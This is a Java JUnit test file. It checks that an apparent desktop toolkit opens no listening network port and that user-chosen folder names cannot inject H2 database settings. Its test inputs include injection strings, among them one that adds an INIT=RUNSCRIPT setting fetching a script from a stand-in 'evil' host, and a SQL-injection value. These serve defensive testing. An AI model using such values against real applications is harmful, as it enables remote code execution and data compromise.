package org.fourpi.toolkit.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assumptions.assumeThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.util.stream.Stream;

import org.fourpi.toolkit.common.db.DataFolderException;
import org.fourpi.toolkit.common.ui.Progress;
import org.fourpi.toolkit.people.Person;
import org.fourpi.toolkit.testing.TestServices;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The program, with its database open and in use, listens on no network port; and the name of the
 * data folder, which a person can choose, cannot slip settings into the database's address.
 */
class NoListeningSocketTest {

    @TempDir Path temp;

    @BeforeEach
    void onLinux() {
        assumeThat(ListeningSockets.canLook()).as("the kernel's socket tables can be read").isTrue();
    }

    @Test
    void findsAPortThatIsListening() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            assertThat(ListeningSockets.ofThisProcess()).isNotEmpty();
        }
    }

    @Test
    void listensOnNoPortWithTheDatabaseOpenAndInUse() throws IOException {
        assertThat(ListeningSockets.ofThisProcess()).as("before").isEmpty();
        try (TestServices test = TestServices.open(temp.resolve("data"))) {
            test.services().people().save(Person.named("Ada", "Lovelace"));
            test.services().peopleExport().export(temp.resolve("people.xlsx"), true, Progress.NONE);
            test.services().exampleData();
            assertThat(ListeningSockets.ofThisProcess()).as("with the database open").isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"data=AUTO_SERVER=TRUE", "Tom's \"data\"", "x' OR '1'='1", "data AUTO_SERVER=TRUE",
            "$HOME %APPDATA%", "tcp:evil", "Ada & Ben's (2026) — ŵ"})
    void opensAFolderWithOddCharactersInItsNameAsThatFolderAndNothingElse(String name) throws Exception {
        Path folder = temp.resolve(name);
        try (TestServices test = TestServices.open(folder)) {
            test.services().people().save(Person.named("Ada", "Lovelace"));
            assertThat(ListeningSockets.ofThisProcess()).isEmpty();
            Path base = test.services().folder().databaseBase();
            assertThat(base.toAbsolutePath().normalize()).startsWithRaw(folder.toAbsolutePath().normalize());
            assertThat(Path.of(base + ".mv.db")).as("the database file, in the folder itself").exists();
            try (Connection connection = DriverManager.getConnection("jdbc:h2:file:" + base.toAbsolutePath()
                    + ";WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE", "sa", "");
                 ResultSet settings = connection.createStatement().executeQuery(
                         "SELECT SETTING_VALUE FROM INFORMATION_SCHEMA.SETTINGS WHERE SETTING_NAME = 'AUTO_SERVER'")) {
                assertThat(settings.next() ? settings.getString(1) : "FALSE").isEqualToIgnoringCase("FALSE");
            }
        }
        try (Stream<Path> left = Files.list(temp)) {
            assertThat(left).as("nothing made beside the folder").containsExactly(folder);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"data;AUTO_SERVER=TRUE", "x;INIT=RUNSCRIPT FROM 'http://example.invalid/evil.sql'",
            "a;CIPHER=AES", "a;ACCESS_MODE_DATA=r", "tcp:\\\\evil\\share"})
    void refusesAFolderWhoseNameWouldAddDatabaseSettings(String name) throws IOException {
        Path folder = temp.resolve(name);
        assertThatThrownBy(() -> TestServices.open(folder).close())
                .isInstanceOfAny(DataFolderException.class, IllegalArgumentException.class);
        assertThat(ListeningSockets.ofThisProcess()).isEmpty();
        try (Stream<Path> files = Files.walk(temp)) {
            assertThat(files.filter(f -> f.getFileName().toString().endsWith(".db"))).as("no database made").isEmpty();
        }
    }
}
